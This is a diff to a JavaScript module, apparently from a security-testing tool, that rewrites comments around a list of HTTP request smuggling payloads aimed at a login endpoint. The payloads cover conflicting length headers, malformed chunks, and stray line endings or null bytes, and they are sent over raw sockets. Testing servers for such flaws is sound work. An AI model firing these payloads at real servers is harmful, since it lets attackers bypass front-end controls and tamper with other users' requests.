@@ -1,9 +1,9 @@
 'use strict';
-/** Requests that two servers in a row might divide differently, byte by byte. */
+/** Request smuggling: bytes that two servers in a row might split into requests differently. */
 const net = require('node:net');
 const { ENGINE } = require('../people');
 
-/** A connection on which nothing has come for so long has said everything. */
+/** A connection that is silent this long is taken as finished. */
 const QUIET_MS = 1_000;
 
 const ADDRESSES = [
@@ -15,7 +15,10 @@ const ADDRESSES = [
   '/app/home#x',
 ];
 
-/** Sends bytes. @returns {Promise<string>} all that comes back until nothing does */
+/**
+ * Sends bytes.
+ * @returns {Promise<string>} everything received until the connection is silent
+ */
 function exchange(url, bytes) {
   const { hostname, port } = new URL(url);
   return new Promise((resolve) => {
@@ -46,7 +49,7 @@ const smuggling = {
       `POST /auth/login HTTP/1.1\r\nhost: a\r\nkbn-xsrf: 1\r\ncontent-type: application/json\r\n${headers}\r\n${body}`;
     const chunk = (text) => `${Buffer.byteLength(text).toString(16)}\r\n${text}\r\n0\r\n\r\n`;
     const kinds = [
-      // Both lengths: what the one leaves is a request to the other.
+      // Both length headers: the bytes that one of them leaves over look like another request.
       (inner) => post(`content-length: 5\r\ntransfer-encoding: chunked\r\n`, `0\r\n\r\n${inner}`),
       (inner) => post(`transfer-encoding: chunked\r\ncontent-length: 5\r\n`, `0\r\n\r\n${inner}`),
       (inner) => post(`content-length: 2\r\ncontent-length: ${inner.length + 2}\r\n`, `{}${inner}`),
@@ -74,10 +77,10 @@ const smuggling = {
           `2;${'a'.repeat(70_000)}\r\n{}\r\n0\r\n\r\n${inner}`
         ),
       (inner) => post(`transfer-encoding: chunked\r\n`, `2\r\n{}XX0\r\n\r\n${inner}`),
-      // The hidden request is the body, whole, and has to stay that.
+      // The hidden request is the entire body and must be treated as such.
       (inner) => post(`content-length: ${inner.length}\r\n`, inner),
       (inner) => post(`transfer-encoding: chunked\r\n`, chunk(inner)),
-      // Line ends and heads.
+      // Line endings and request heads.
       (inner) => `GET /api/status HTTP/1.1\nhost: a\n\n${inner}`,
       (inner) => `GET /api/status HTTP/1.1\r\nhost: a\r\nx: a\rb\r\n\r\n${inner}`,
       (inner) => `GET /api/status HTTP/1.1\r\nhost: a\r\nx: a\0b\r\n\r\n${inner}`,
